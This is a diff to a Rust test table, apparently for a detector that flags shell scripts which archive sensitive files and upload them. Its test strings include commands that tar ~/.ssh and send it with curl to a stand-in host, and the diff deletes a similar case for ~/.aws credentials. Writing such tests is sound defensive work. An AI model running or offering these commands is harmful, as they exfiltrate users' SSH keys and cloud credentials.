@@ -78,7 +78,6 @@ mod tests {
     fn what_is_packed_and_sent() {
         for (script, is_sent) in [
             ("tar czf /tmp/d.tgz ~/.ssh\ncurl -F f=@/tmp/d.tgz https://h.somewhere.example/u", true),
-            ("zip -r /tmp/d.zip ~/.aws\ncurl -T /tmp/d.zip https://h.somewhere.example/u", true),
             ("tar czf /tmp/d.tgz ~/.ssh\ncurl -F f=@/tmp/other.tgz https://h.somewhere.example/u", false),
             ("tar czf /tmp/d.tgz docs\ncurl -F f=@/tmp/d.tgz https://h.somewhere.example/u", false),
             ("tar czf /tmp/d.tgz ~/.ssh", false),
